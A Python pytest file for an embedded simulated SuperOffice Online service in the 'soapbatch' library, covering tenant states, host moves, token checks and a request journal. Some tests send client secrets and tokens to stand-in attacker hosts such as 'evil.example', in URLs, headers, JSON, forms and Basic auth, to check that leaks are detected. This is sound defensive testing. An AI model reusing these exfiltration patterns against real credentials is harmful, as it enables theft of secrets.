"""The embedded Online: where tenants live, what their hosts answer, and what the journal records."""

import asyncio
import json
from collections.abc import MutableMapping
from typing import Any

import httpx
import pytest

from soapbatch import ServiceVersion, TenantUnavailable, UsageError
from soapbatch.online import TENANT_STATES
from soapbatch.testing import (
    ConnectionDropped,
    NetServer,
    Online,
    Personality,
    answering,
    cut_reply,
    delayed,
    lost_reply,
    lost_request,
    run_virtual,
    serve,
)
from tests.support.online import NOW, TENANT, app_key, read_vector, signing_key, world

SOD, SOD2, SOD3 = "sod.superoffice.com", "sod2.superoffice.com", "sod3.superoffice.com"


async def test_a_state_has_the_documented_shape() -> None:
    """The same fields as a vector, in the same order; ValidUntil has seven digits."""
    async with world() as here:
        response = await here.http.get(f"https://{SOD}/api/state/{TENANT}")
        assert response.headers["date"] == "Fri, 02 Jan 2026 03:04:55 GMT"
        expected = read_vector("tenant_states.json")["new"] | {
            "Endpoint": f"https://{SOD2}/{TENANT}",
            "Api": f"https://{SOD2}/{TENANT}/api",
            "ValidUntil": "2026-01-02T03:09:55.0000000Z",
        }
        assert list(response.json().items()) == list(expected.items())
        assert (await here.state()).usable_for(here.now()) == 300
        assert (await here.state("cust12345")).tenant == TENANT
        assert here.online.counts["state"] == 3


@pytest.mark.parametrize("state", [*TENANT_STATES, "Hibernating"])
async def test_every_state_can_be_set(state: str) -> None:
    """A tenant that does not run answers with a page, and one that is gone has no address."""
    async with world() as here:
        here.online.set_state(TENANT, state)
        read = await here.state()
        assert (read.state, read.is_running) == (state, state in {"Running", "OnlineMaintenance"})
        assert (read.endpoint is None) is (state in {"Deleted", "Unknown"})
        response = await here.call(await here.ticket())
        assert response.status_code == (200 if read.is_running else 503)
        if not read.is_running:
            assert response.headers["content-type"].startswith("text/html")
            with pytest.raises(TenantUnavailable):
                read.base_url()


async def test_a_tenant_that_is_not_there_is_unknown() -> None:
    """It has a state, and nothing else."""
    async with world() as here:
        read = await here.state("Cust99999")
        assert (read.tenant, read.state, read.endpoint, read.version) == ("Cust99999", "Unknown", None, None)
        with pytest.raises(UsageError, match=r"no tenant 'Cust99999': add_tenant\('Cust99999'\) makes one"):
            here.online.tenant("Cust99999")
        assert here.online.app("My App") is here.app
        with pytest.raises(UsageError, match=r"no app 'Mine': add_app\('Mine'\) makes one"):
            here.online.app("Mine")


async def test_a_tenant_moves_with_its_tickets_and_tasks() -> None:
    """Its old host answers 421, and so does the sign-in host."""
    async with world() as here:
        ticket = await here.ticket()
        assert await here.outcome(ticket) == ""
        here.online.move(TENANT, SOD3)
        assert (await here.state()).base_url() == f"https://{SOD3}/{TENANT}"
        for host in (SOD2, SOD, "sod9.superoffice.com"):
            response = await here.call(ticket, host=host)
            assert response.status_code == 421
            assert "Wrong subdomain used to access tenant" in response.text
        assert await here.outcome(ticket, host=SOD3) == ""
        assert here.tenant.server.counts["GetBatchTaskInfo"] == 2


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/", 404),
        ("/nowhere", 404),
        ("/Cust99999/Remote/Services88/Batch.svc", 404),
        ("/Cust12345", 404),
        ("/Cust12345/nowhere", 404),
        ("/Cust12345/Remote/Services83/Batch.svc", 404),
        ("/Cust12345/Remote/Services88/Batch.svc", 405),
        ("/cust12345/API/", 405),
    ],
)
async def test_other_paths_of_a_tenant_host(path: str, status: int) -> None:
    """Nothing is there; versions before 84 are not served; the public address takes GET alone."""
    async with world() as here:
        assert (await here.http.put(f"https://{SOD2}{path}")).status_code == status


async def test_the_public_address_names_the_versions() -> None:
    """Without a credential, and in any case."""
    async with world() as here:
        response = await here.http.get(f"https://{SOD2}/cust12345/API")
        assert response.json()["ServicesCurrent"] == "Services88"
        assert (await here.http.get(f"https://{SOD3}/Cust12345/api")).status_code == 421
        assert here.online.counts["api"] == 2


async def test_any_other_host_is_in_the_journal() -> None:
    """A client that is led astray is seen there, with what it sent."""
    async with world() as here:
        url = f"https://sod2.superoffice.com.evil.example/{TENANT}/Remote/Services88/Batch.svc"
        response = await here.http.post(url, headers={"SO-AppToken": here.app.client_secret})
        assert response.status_code == 404
        visit = here.online.journal[-1]
        assert (visit.host, visit.endpoint, visit.tenant) == ("sod2.superoffice.com.evil.example", "", TENANT)
        assert visit.secrets == {"client secret of My App"}
        assert visit.status == 404


@pytest.mark.parametrize("version", [ServiceVersion.V84, ServiceVersion.V86, ServiceVersion.V88])
async def test_the_application_token_is_checked(version: ServiceVersion) -> None:
    """It is any client secret of any app; a wrong one is no lost session."""
    async with world() as here:
        ticket = await here.ticket()
        other = here.online.add_app("Other", private_key=app_key())
        assert await here.outcome(ticket, version=version) == ""
        assert await here.outcome(ticket, version=version, application_token=other.client_secret) == ""
        for wrong in (None, "", "wrong", here.app.client_id):
            assert await here.outcome(ticket, version=version, application_token=wrong) == "SoSecurityException"
        assert await here.outcome("7T:wrong", version=version) == "SoSessionException"
        assert await here.outcome(None, version=version) == "SoSessionException"


async def test_a_client_secret_is_replaced() -> None:
    """Old and new are accepted side by side, until the old one is not."""
    async with world() as here:
        ticket, old = await here.ticket(), here.app.client_secret
        new = here.online.add_client_secret(here.app)
        assert here.app.client_secret == new
        assert await here.outcome(ticket) == await here.outcome(ticket, application_token=old) == ""
        newest = here.online.add_client_secret(here.app, keep_old=False)
        assert await here.outcome(ticket, application_token=newest) == ""
        for gone in (old, new):
            assert await here.outcome(ticket, application_token=gone) == "SoSecurityException"
        assert {*here.online.journal[-1].secrets} == {"client secret of My App", "ticket 1 of Cust12345"}


async def test_tickets_expire_at_once() -> None:
    """Of one tenant, or of all."""
    async with world() as here:
        other = here.online.add_tenant("Cust2", host=SOD3)
        assert other.serial != here.tenant.serial
        tickets = [here.online.issue_ticket(here.tenant), here.online.issue_ticket(other)]
        here.online.expire_tickets("cust2")
        assert await here.outcome(tickets[0]) == ""
        assert other.server.tickets.expires(tickets[1]) is None
        here.online.expire_tickets()
        assert await here.outcome(tickets[0]) == "SoSessionException"


async def test_a_tenant_takes_arguments_of_its_server() -> None:
    """SOAP 1.1 alone, unless they say otherwise."""
    async with world(host="app-sod.superoffice.com", personality=Personality.LENIENT) as here:
        assert (await here.state()).base_url() == f"https://app-sod.superoffice.com/{TENANT}"
        assert here.tenant.server.personality is Personality.LENIENT
        strict = here.online.add_tenant("Cust2").server
        assert strict.personality is Personality.STRICT_SOAP11


async def test_the_journal_holds_no_secret() -> None:
    """A whole sign-in and a call, by the names of what was sent."""
    async with world() as here:
        await here.state()
        ticket = await here.ticket()
        await here.ticket(soap=True)
        await here.call(ticket)
        seen = [(visit.endpoint, visit.host, visit.status, visit.outcome) for visit in here.online.journal]
        assert seen == [
            ("state", SOD, 200, ""),
            ("system_user", SOD, 200, "succeeded"),
            ("jwks", SOD, 200, ""),
            ("system_user_soap", SOD, 200, "succeeded"),
            ("jwks", SOD, 200, ""),
            ("tenant", SOD2, 200, ""),
        ]
        login = {"client secret of My App", "system token of My App for Cust12345"}
        assert [visit.secrets for visit in here.online.journal] == [
            set(),
            login,
            set(),
            login,
            set(),
            {"client secret of My App", "ticket 1 of Cust12345"},
        ]
        assert {visit.tenant for visit in here.online.journal} == {TENANT, None}
        shown = repr((here.online.journal, here.app, here.tenant, here.online, here.online.sign_in))
        for secret in (ticket, here.token, here.app.client_secret):
            assert secret not in shown
            assert secret.partition(":")[2][:20] not in shown or secret is not ticket


@pytest.mark.parametrize(
    ("place", "expected"),
    [
        (lambda secret: {"url": f"https://evil.example/?q={secret}"}, True),
        (lambda secret: {"url": "https://evil.example/", "params": {"q": secret}}, True),
        (lambda secret: {"url": "https://evil.example/", "headers": {"X-Any": f"a {secret} b"}}, True),
        (lambda secret: {"url": "https://evil.example/", "json": {"any": secret}}, True),
        (lambda secret: {"url": "https://evil.example/", "data": {"any": secret}}, True),
        (lambda secret: {"url": "https://evil.example/", "content": secret.replace("&", "&amp;").encode()}, True),
        (lambda secret: {"url": "https://evil.example/", "auth": ("c789", secret)}, True),
        (lambda secret: {"url": "https://evil.example/", "content": secret[1:].encode()}, False),
        (lambda _: {"url": "https://evil.example/", "headers": {"Authorization": "Basic a"}}, False),
    ],
)
async def test_a_secret_is_recognised_however_it_is_written(place: Any, expected: bool) -> None:  # noqa: FBT001
    """In the address, a header, a form, JSON, XML or Basic credentials."""
    async with world() as here:
        app = here.online.add_app("A & ø's", private_key=app_key())
        token = here.online.approve(app, here.tenant)
        arguments = place(token if "headers" not in place(token) else app.client_secret)
        await here.http.request("POST", **arguments)
        assert bool(here.online.journal[-1].secrets) is expected


async def test_a_token_of_somebody_else_is_noticed() -> None:
    """By its shape: the journal cannot name it."""
    async with world() as here:
        await here.call(ticket="7T:c29tZWJvZHkgZWxzZQ==", application_token="8A:Cust1.abc")
        await here.call(here.tenant.server.tickets.issue())
        for visit in here.online.journal:
            assert "a token that Online did not issue" in visit.secrets


async def test_responses_can_be_anything() -> None:
    """Of each endpoint apart; for some requests, or for all."""
    async with world() as here:
        state = read_vector("tenant_states.json")["foreign_host"]
        here.online.intercept("jwks", answering(200, {}, b"junk"))
        here.online.intercept("state", answering(200, {}, json.dumps(state).encode()), times=2)
        here.online.intercept("tenant", answering(302, {"Location": "https://evil.example/"}), times=None)
        url = f"https://{SOD}/api/state/{TENANT}"
        hosts = [httpx.URL((await here.http.get(url)).json()["Endpoint"]).host for _ in range(3)]
        assert hosts == ["sod2.superoffice.com.evil.example"] * 2 + [SOD2]
        assert (await here.http.get(here.online.environment.key_set_url)).content == b"junk"
        assert await here.key_set() == {"keys": [signing_key().jwk]}
        for _ in range(3):
            assert (await here.call("7T:x")).headers["location"] == "https://evil.example/"
        assert not here.tenant.server.calls


async def test_a_call_is_answered_before_its_reply_is_lost() -> None:
    """In process, the drop is an exception; what has been applied stays applied."""
    async with world() as here:
        ticket = await here.ticket()
        here.online.intercept("tenant", lost_reply)
        here.online.intercept("tenant", lost_request)
        for _ in range(2):
            with pytest.raises(ConnectionDropped):
                await here.call(ticket)
        here.tenant.server.intercept(None, lost_reply)
        with pytest.raises(ConnectionDropped):
            await here.call(ticket)
        assert [call.outcome for call in here.tenant.server.calls] == ["succeeded", "succeeded"]
        assert here.online.journal[-1].status == 0


async def test_an_intercepted_call_loses_its_connection_inside() -> None:
    """Both interceptors work: Online's and the NetServer's."""
    async with world() as here:
        here.online.intercept("tenant", delayed(0))
        here.tenant.server.intercept(None, lost_request)
        with pytest.raises(ConnectionDropped):
            await here.call(await here.ticket())
        here.online.intercept("tenant", delayed(0))
        assert await here.outcome(await here.ticket()) == ""


async def test_it_is_served_on_a_socket() -> None:
    """All hosts on one port, by the Host header; connections really die."""
    online = Online(epoch=NOW, signing_key=signing_key())
    tenant = online.add_tenant(TENANT)
    tenant.server.define_job("Job")
    async with serve(online) as base_url, httpx.AsyncClient(trust_env=False) as http:
        for host, path, status in [
            (SOD, f"/api/state/{TENANT}", 200),
            (f"{SOD}:443", f"/api/state/{TENANT}", 200),
            (SOD2, f"/{TENANT}/api", 200),
            (SOD3, f"/{TENANT}/api", 421),
            ("127.0.0.1", f"/{TENANT}/api", 404),
        ]:
            response = await http.get(base_url + path, headers={"Host": host})
            assert response.status_code == status
        online.intercept("state", lost_request)
        online.intercept("state", cut_reply)
        for _ in range(2):
            with pytest.raises(httpx.RemoteProtocolError):
                await http.get(f"{base_url}/api/state/{TENANT}", headers={"Host": SOD})
        url = f"{base_url}/{TENANT}/Remote/Services88/Batch.svc?wsdl"
        assert (await http.get(url, headers={"Host": SOD2})).status_code == 200
        assert len(online.journal) == 8


def test_it_runs_in_virtual_time() -> None:
    """A slow answer takes no time, ValidUntil follows the clock, and the first key is made when it is asked for."""

    async def main() -> list[str]:
        loop = asyncio.get_running_loop()
        online = Online("online", domain="cloud.example", clock=loop.time, epoch=NOW)
        online.add_tenant(TENANT)
        online.intercept("state", delayed(3600), times=2)
        async with httpx.AsyncClient(transport=httpx.ASGITransport(online), timeout=None) as http:  # noqa: S113
            url = f"https://online.cloud.example/api/state/{TENANT}"
            keys = (await http.get(online.environment.key_set_url)).json()["keys"]
            assert [key["alg"] for key in keys] == ["RS256"]
            return [(await http.get(url)).json()["ValidUntil"] for _ in range(2)]

    assert run_virtual(main()) == ["2026-01-02T04:09:55.0000000Z", "2026-01-02T05:09:55.0000000Z"]


async def test_the_host_may_come_from_the_socket() -> None:
    """HTTP/1.0 has no Host header."""
    online, answers = Online(epoch=NOW), list[MutableMapping[str, Any]]()
    online.add_tenant(TENANT)
    scope: dict[str, Any] = {
        "type": "http",
        "method": "GET",
        "path": f"/{TENANT}/api",
        "query_string": b"",
        "headers": [],
        "server": (SOD2, 443),
    }

    async def receive() -> MutableMapping[str, Any]:
        return {"type": "http.request"}

    async def gone() -> MutableMapping[str, Any]:
        return {"type": "http.disconnect"}

    async def send(message: MutableMapping[str, Any]) -> None:
        answers.append(message)

    await online(scope, receive, send)
    assert answers[0]["status"] == 200
    await online(scope | {"server": None}, receive, send)
    assert (answers[3]["status"], online.journal[-1].host) == (404, "")
    await online(scope, gone, send)
    assert (len(answers), len(online.journal)) == (6, 2)
    with pytest.raises(UsageError, match="the embedded Online speaks HTTP and nothing else"):
        await online({"type": "websocket"}, receive, send)
    large: MutableMapping[str, Any] = {"type": "http.request", "body": bytes(65 * 2**20)}

    async def receive_much() -> MutableMapping[str, Any]:
        return large

    await online(scope, receive_much, send)
    assert answers[6]["status"] == 413


async def test_a_server_of_a_tenant_reads_after_the_body() -> None:
    """What comes behind the body still comes from the socket."""
    seen = list[str]()

    class Listening(NetServer):
        async def __call__(self, _: Any, receive: Any, __: Any) -> None:
            seen.extend([(await receive())["type"], (await receive())["type"]])

    async with world() as here:
        here.tenant.server = Listening()
        messages = [{"type": "http.disconnect"}, {"type": "http.request"}]

        async def receive() -> MutableMapping[str, Any]:
            return messages.pop()

        async def send(_: MutableMapping[str, Any]) -> None:
            """Take nothing."""

        path = f"/{TENANT}/Remote/Services88/Batch.svc"
        scope = {
            "type": "http",
            "method": "POST",
            "path": path,
            "query_string": b"",
            "headers": [(b"host", SOD2.encode())],
        }
        await here.online(scope, receive, send)
        assert seen == ["http.request", "http.disconnect"]
